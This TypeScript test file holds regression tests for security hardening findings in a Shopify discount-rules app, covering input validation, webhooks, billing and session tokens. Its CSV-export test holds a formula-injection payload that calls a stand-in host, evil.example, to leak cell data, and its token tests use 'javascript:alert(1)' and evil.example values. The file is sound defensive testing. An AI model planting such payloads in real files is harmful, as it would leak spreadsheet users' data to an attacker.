// Regression tests of the hardening issue's findings that live in the routes and services,
// each with the exact input of the probe. Server-level findings: server.test.ts.
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import prisma from "../../app/db.server";
import { auditCsvResponse } from "../../app/services/audit/csv.server";
import { recordAuditEvents } from "../../app/services/audit/events.server";
import { ensureShop } from "../../app/db/shops.server";
import type { OrderSpec } from "../../app/demo/order-payload-builder";
import { orderPayload, stackedCodeAndAutomatic } from "../fixtures/orders";
import { adminRequest, routeArgs, settle, storeOfflineSession, webhookRequest } from "../helpers/shopify";
import { getJwt } from "@shopify/shopify-api/test-helpers";
import { abstractFetch, setAbstractFetchFunc } from "@shopify/shopify-api/runtime";
import { TEST_API_KEY, TEST_API_SECRET, TEST_APP_URL } from "../helpers/test-env";

const SHOP = "hardening.myshopify.com";
const LONE_SURROGATE = "\ud800x";

const routes = {
  rules: await import("../../app/routes/api.rules"),
  rule: await import("../../app/routes/api.rules.$id"),
  createCollection: await import("../../app/routes/api.rules.collections.create"),
  stacking: await import("../../app/routes/api.rules.stacking"),
  blocking: await import("../../app/routes/api.rules.blocking"),
  rulesPage: await import("../../app/routes/_admin.rules/route"),
  downgrade: await import("../../app/routes/api.billing.downgrade"),
  upgrade: await import("../../app/routes/api.billing.upgrade"),
  ordersCreate: await import("../../app/routes/webhooks.orders.create"),
  scopesUpdate: await import("../../app/routes/webhooks.app.scopes_update"),
  inventory: await import("../../app/routes/webhooks.inventory_items.update"),
  customersRedact: await import("../../app/routes/webhooks.customers.redact"),
  dataRequest: await import("../../app/routes/webhooks.customers.data_request"),
};
// this file's own workers (docs/architecture.md#background-workers)
const workers = (await import("../helpers/workers")).testWorkers();

type Handler = (args: {
  request: Request;
  params: Record<string, string>;
  context: Record<string, unknown>;
}) => unknown;

async function call(handler: Handler, path: string, init: RequestInit = {}, params: Record<string, string> = {}) {
  const request = await adminRequest(path, SHOP, { init });
  return (await settle(() => Promise.resolve(handler({ request, params, context: {} })))) as Response;
}

const json = (method: string, body: unknown): RequestInit => ({
  method,
  body: typeof body === "string" ? body : JSON.stringify(body),
  headers: { "Content-Type": "application/json" },
});

const rule = (overrides: Record<string, unknown> = {}) => ({
  name: "Cap",
  ruleType: "max_discount_amount",
  threshold: "30",
  action: "alert",
  ...overrides,
});

/** Everything a refused input must leave as it was. */
async function snapshot(shopId: string) {
  return JSON.stringify(
    await Promise.all([
      prisma.rule.findMany({ where: { shopId }, orderBy: { id: "asc" } }),
      prisma.collectionRule.findMany({ where: { shopId }, orderBy: { id: "asc" } }),
      prisma.stackingSettings.findUnique({ where: { shopId } }),
      prisma.blockingSettings.findUnique({ where: { shopId } }),
      prisma.shop.findUnique({ where: { id: shopId } }),
      prisma.auditEvent.count({ where: { shopId } }),
      prisma.orderEvaluation.count({ where: { shopId } }),
      prisma.processedWebhook.count(),
      prisma.variantUnitCost.findMany({ where: { shopId } }),
    ]),
  );
}

let shopId: string;

beforeAll(async () => {
  shopId = (await ensureShop(SHOP)).id;
  await storeOfflineSession(SHOP);
});

beforeEach(async () => {
  await prisma.rule.deleteMany({ where: { shopId } });
  await prisma.shop.update({
    where: { id: shopId },
    data: { plan: "core", grantedScopes: "read_orders,read_products" },
  });
  await prisma.stackingSettings.update({
    where: { shopId },
    data: { enabled: true, blockedStacking: [["DiscountCodeBasic", "DiscountAutomaticBasic"]] },
  });
});

describe("finding 1: a form list index cannot make the process allocate", () => {
  it("refuses blockedStacking[99999999] on the Rules page with 400 and saves nothing", async () => {
    const before = await snapshot(shopId);
    const response = await call(routes.rulesPage.action as Handler, "/rules", {
      method: "POST",
      body: new URLSearchParams({ intent: "saveStacking", "blockedStacking[99999999]": "x" }),
    });
    const body = (await (response as unknown as { data: unknown }).data) as {
      status: number;
      toast: { description: string };
    };
    expect(body.status).toBe(400);
    expect(body.toast.description).toBe('The field "blockedStacking[99999999]" names a list position above 99');
    expect(await snapshot(shopId)).toBe(before);
  });
});

describe("finding 4: CSV formula injection", () => {
  it("neutralises cells that begin with =, +, -, @ in the audit export", async () => {
    const names = ["=1+1", "@SUM(1+1)", "-cmd", "+cmd"];
    await recordAuditEvents(
      shopId,
      names.map((name) => ({
        eventType: "rule_triggered",
        severity: "high",
        message: name,
        ruleName: name,
        orderName: "#1",
        discountCodes: ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'],
      })),
    );
    const csv = await auditCsvResponse(shopId, { q: undefined }, "audit.csv").text();
    for (const name of names) {
      expect(csv).toContain(`'${name}`);
      expect(csv).not.toMatch(new RegExp(`(^|,)"?${name.replace(/[+@=]/g, "\\$&")}`, "m"));
    }
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    await prisma.auditEvent.deleteMany({ where: { shopId } });
  });
});

describe("finding 6: compliance webhooks with many order ids", () => {
  it("customers/redact and customers/data_request handle 10,000 order ids", async () => {
    const orders = Array.from({ length: 10_000 }, (_, index) => 5_000_000 + index);
    await recordAuditEvents(shopId, [
      {
        eventType: "rule_triggered",
        severity: "low",
        message: "m",
        orderId: `gid://shopify/Order/${orders[9_999]}`,
        customerId: "gid://shopify/Customer/1",
        discountCodes: [],
      },
    ]);
    const redact = (await routes.customersRedact.action(
      routeArgs(
        webhookRequest("customers/redact", SHOP, { shop_domain: SHOP, customer: { id: 2 }, orders_to_redact: orders }),
      ),
    )) as Response;
    expect(redact.status).toBe(200);
    expect((await prisma.auditEvent.findFirstOrThrow({ where: { shopId } })).customerId).toBeNull();
    const request = (await routes.dataRequest.action(
      routeArgs(
        webhookRequest("customers/data_request", SHOP, {
          shop_domain: SHOP,
          customer: { id: 2 },
          orders_requested: orders,
          data_request: { id: 9 },
        }),
      ),
    )) as Response;
    expect(request.status).toBe(200);
    const stored = await prisma.complianceRequest.findFirstOrThrow({ where: { shopDomain: SHOP, externalId: "9" } });
    expect((stored.data as { events: unknown[] }).events).toHaveLength(1);
    await prisma.auditEvent.deleteMany({ where: { shopId } });
  });
});

describe("finding 7: billing changes need an explicit, valid plan", () => {
  it("refuses ?plan=enterprise, invalid JSON, an empty body and broken multipart, and keeps the plan", async () => {
    const attempts: RequestInit[] = [
      { method: "POST" },
      json("POST", "{not json"),
      json("POST", {}),
      { method: "POST", body: "--x\r\nbroken", headers: { "Content-Type": "multipart/form-data; boundary=x" } },
    ];
    for (const init of [...attempts, { method: "POST", url: "?plan=enterprise" } as RequestInit]) {
      const query = (init as { url?: string }).url ?? "";
      const response = await call(routes.downgrade.action as Handler, `/api/billing/downgrade${query}`, init);
      expect(response.status).toBe(400);
      expect(response.headers.get("content-type")).toContain("application/json");
    }
    const broken = await call(routes.upgrade.action as Handler, "/api/billing/upgrade", attempts[3]);
    expect(broken.status).toBe(400);
    expect((await prisma.shop.findUniqueOrThrow({ where: { id: shopId } })).plan).toBe("core");
  });

  it("answers 401 JSON, not a redirect, without a session", async () => {
    for (const route of [routes.downgrade, routes.upgrade]) {
      const request = new Request(`${TEST_APP_URL}/api/billing/downgrade?plan=free`, { method: "POST" });
      const response = (await settle(() =>
        Promise.resolve(route.action({ request, params: {}, context: {} })),
      )) as Response;
      expect(response.status).toBe(401);
      expect(response.headers.get("content-type")).toContain("application/json");
    }
  });
});

describe("finding 9: bad input is a 400 with a message, never a 500", () => {
  it("refuses a lone surrogate in every text field", async () => {
    const before = await snapshot(shopId);
    const attempts: [Handler, string, unknown][] = [
      [routes.rules.action as Handler, "/api/rules", rule({ name: LONE_SURROGATE })],
      [routes.rules.action as Handler, "/api/rules", rule({ description: LONE_SURROGATE })],
      [
        routes.createCollection.action as Handler,
        "/api/rules/collections/create",
        {
          collectionId: "1",
          collectionTitle: LONE_SURROGATE,
          ruleType: "max_discount",
          threshold: 10,
          action: "alert",
        },
      ],
      [
        routes.blocking.action as Handler,
        "/api/rules/blocking",
        { instantBlocking: false, staffOverride: true, customerMessage: LONE_SURROGATE },
      ],
    ];
    for (const [handler, path, body] of attempts) {
      const response = await call(handler, path, json("POST", body));
      expect(response.status, path).toBe(400);
      expect((await response.json()).error).toMatch(/not valid Unicode/);
    }
    expect(await snapshot(shopId)).toBe(before);
  });

  it("refuses amount thresholds beyond the maximum", async () => {
    for (const threshold of [1e20, 9.2e16, 1e300, "1e20"]) {
      const response = await call(routes.rules.action as Handler, "/api/rules", json("POST", rule({ threshold })));
      expect(response.status, String(threshold)).toBe(400);
    }
    expect(await prisma.rule.count({ where: { shopId } })).toBe(0);
  });

  it("refuses JSON, text/plain and broken multipart bodies on the Rules page", async () => {
    const bodies: RequestInit[] = [
      json("POST", { intent: "create" }),
      { method: "POST", body: "intent=create", headers: { "Content-Type": "text/plain" } },
      { method: "POST", body: "--x\r\nbroken", headers: { "Content-Type": "multipart/form-data; boundary=x" } },
    ];
    for (const init of bodies) {
      const response = await call(routes.rulesPage.action as Handler, "/rules", init);
      const body = (await (response as unknown as { data: unknown }).data) as { status: number };
      expect(body.status).toBe(400);
    }
  });
});

describe("findings 9 and 11: signed webhooks with impossible payloads store nothing", () => {
  const line = {
    variant: 1,
    product: 1,
    price: { shop: "10.00" },
    allocations: [{ index: 0, amount: { shop: "1.00" } }],
  };
  const applications: OrderSpec["applications"] = [
    { type: "discount_code", target: "line_item", valueType: "fixed_amount", value: "1.0", code: "A" },
  ];
  const impossible: [string, unknown][] = [
    [
      "a price of 1e307",
      orderPayload({ id: 1, number: 1, applications, lines: [{ ...line, price: { shop: "1e307" } }] }),
    ],
    [
      "an allocation of 1e20",
      orderPayload({
        id: 2,
        number: 2,
        applications,
        lines: [{ ...line, allocations: [{ index: 0, amount: { shop: "1e20" } }] }],
      }),
    ],
    [
      "a negative price",
      orderPayload({ id: 3, number: 3, applications, lines: [{ ...line, price: { shop: "-10.00" } }] }),
    ],
    [
      "an allocation index of 1e9",
      orderPayload({
        id: 4,
        number: 4,
        applications,
        lines: [{ ...line, allocations: [{ index: 1e9, amount: { shop: "1.00" } }] }],
      }),
    ],
    [
      "200,000 discount codes",
      {
        ...stackedCodeAndAutomatic,
        discount_codes: Array.from({ length: 200_000 }, (_, index) => ({
          code: `C${index}`,
          amount: "1.00",
          type: "fixed_amount",
        })),
      },
    ],
  ];

  it.each(impossible)("refuses an order with %s", async (_label, payload) => {
    const before = await snapshot(shopId);
    const response = (await settle(() =>
      routes.ordersCreate.action(routeArgs(webhookRequest("orders/create", SHOP, payload))),
    )) as Response;
    await workers.orders.drain();
    expect(response.status).toBe(400);
    expect((await response.json()).error).toMatch(/^The orders\/create payload is not one Shopify sends/);
    expect(await snapshot(shopId)).toBe(before);
  });

  it("refuses a signed order whose text is not valid Unicode (found by the fuzzer)", async () => {
    const before = await snapshot(shopId);
    const payload = { ...stackedCodeAndAutomatic, customer: { id: "x\udfff" } };
    const response = (await settle(() =>
      routes.ordersCreate.action(routeArgs(webhookRequest("orders/create", SHOP, payload))),
    )) as Response;
    expect(response.status).toBe(400);
    expect((await response.json()).error).toBe(
      "The orders/create payload has text that is not valid Unicode at body.customer.id",
    );
    expect(await snapshot(shopId)).toBe(before);
  });

  it("keeps the granted scopes when app/scopes_update carries null, [] or {}", async () => {
    for (const payload of [null, [], {}]) {
      const response = (await settle(() =>
        routes.scopesUpdate.action(routeArgs(webhookRequest("app/scopes_update", SHOP, payload))),
      )) as Response;
      expect(response.status).toBe(400);
    }
    expect((await prisma.shop.findUniqueOrThrow({ where: { id: shopId } })).grantedScopes).toBe(
      "read_orders,read_products",
    );
  });

  it("refuses inventory costs of true and 1e300", async () => {
    await prisma.variantUnitCost.create({
      data: {
        shopId,
        variantId: "gid://shopify/ProductVariant/1",
        inventoryItemId: "gid://shopify/InventoryItem/7",
        unitCostCents: 500,
        collectionIds: [],
      },
    });
    for (const cost of [true, "1e300"]) {
      const response = (await settle(() =>
        routes.inventory.action(routeArgs(webhookRequest("inventory_items/update", SHOP, { id: 7, cost }))),
      )) as Response;
      expect(response.status).toBe(400);
    }
    expect((await prisma.variantUnitCost.findFirstOrThrow({ where: { shopId } })).unitCostCents).toBe(500);
    await prisma.variantUnitCost.deleteMany({ where: { shopId } });
  });
});

describe("finding 12: the rule API reads decimal numbers only", () => {
  it("refuses loose priorities and a hexadecimal threshold", async () => {
    for (const priority of [null, true, "", [], "0x10"]) {
      const response = await call(routes.rules.action as Handler, "/api/rules", json("POST", rule({ priority })));
      expect(response.status, JSON.stringify(priority)).toBe(400);
    }
    const hex = await call(routes.rules.action as Handler, "/api/rules", json("POST", rule({ threshold: "0x10" })));
    expect(hex.status).toBe(400);
    expect((await hex.json()).errors.threshold).toEqual(["Must be a valid positive number"]);
    expect(await prisma.rule.count({ where: { shopId } })).toBe(0);
    const fine = await call(
      routes.rules.action as Handler,
      "/api/rules",
      json("POST", rule({ priority: 3, threshold: "12.50" })),
    );
    expect(fine.status).toBe(201);
  });

  it("does not reset the stacking settings from a form-encoded body", async () => {
    const before = await snapshot(shopId);
    const form = await call(routes.stacking.action as Handler, "/api/rules/stacking", {
      method: "POST",
      body: new URLSearchParams({ anything: "1" }),
    });
    expect(form.status).toBe(415);
    const empty = await call(routes.stacking.action as Handler, "/api/rules/stacking", json("POST", {}));
    expect(empty.status).toBe(400);
    expect(await snapshot(shopId)).toBe(before);
  });
});

describe("a session token for a shop with no stored session while Shopify cannot be reached", () => {
  it("is a 503 with Retry-After and a message, never a 500, and the shop gets no session", async () => {
    const shop = "no-session-yet.myshopify.com";
    const reachShopify = abstractFetch;
    // Shopify's token endpoint unreachable: the token exchange's request fails as fetch fails
    setAbstractFetchFunc(() => Promise.reject(new TypeError("fetch failed")));
    try {
      const request = await adminRequest("/api/rules", shop);
      const response = (await settle(() =>
        Promise.resolve(routes.rules.loader({ request, params: {}, context: {} })),
      )) as Response;
      expect(response).toBeInstanceOf(Response);
      expect(response.status).toBe(503);
      expect(response.headers.get("Retry-After")).toBe("5");
      expect((await response.json()).error).toMatch(/Shopify could not be reached.*try again/);
    } finally {
      setAbstractFetchFunc(reachShopify);
    }
    expect(await prisma.session.count({ where: { shop } })).toBe(0);
  });
});

describe("a correctly signed session token whose dest is not a shop", () => {
  const DESTS = ["https://evil.example", "not a url", undefined, `https://${SHOP}.evil.example`, "javascript:alert(1)"];
  const tokenFor = async (dest: string | undefined) =>
    (await getJwt("hardening", TEST_API_KEY, TEST_API_SECRET, { dest })).token;

  it("is a 401 with a JSON message on the JSON API, never a 500", async () => {
    for (const dest of DESTS) {
      const request = new Request(`${TEST_APP_URL}/api/rules`, {
        headers: { Authorization: `Bearer ${await tokenFor(dest)}` },
      });
      const response = (await settle(() =>
        Promise.resolve(routes.rules.loader({ request, params: {}, context: {} })),
      )) as Response;
      expect(response, String(dest)).toBeInstanceOf(Response);
      expect(response.status, String(dest)).toBe(401);
      expect((await response.json()).error, String(dest)).toMatch(/does not name a shop/);
    }
  });

  it("is a 401 on an admin page, by header or by the id_token parameter", async () => {
    const { loader } = await import("../../app/routes/_admin.dashboard");
    const host = Buffer.from(`admin.shopify.com/store/hardening`).toString("base64url");
    for (const dest of DESTS) {
      const token = await tokenFor(dest);
      const byHeader = new Request(`${TEST_APP_URL}/dashboard`, { headers: { Authorization: `Bearer ${token}` } });
      const byParameter = new Request(
        `${TEST_APP_URL}/dashboard?${new URLSearchParams({ shop: SHOP, host, embedded: "1", id_token: token })}`,
      );
      for (const request of [byHeader, byParameter]) {
        const response = (await settle(() => Promise.resolve(loader(routeArgs(request))))) as Response;
        expect(response, String(dest)).toBeInstanceOf(Response);
        expect(response.status, String(dest)).toBe(401);
      }
    }
  });

  it("still lets the same token with the shop's own dest in", async () => {
    const request = new Request(`${TEST_APP_URL}/api/rules`, {
      headers: { Authorization: `Bearer ${await tokenFor(`https://${SHOP}`)}` },
    });
    const response = (await routes.rules.loader({ request, params: {}, context: {} })) as Response;
    expect(response.status).toBe(200);
  });
});
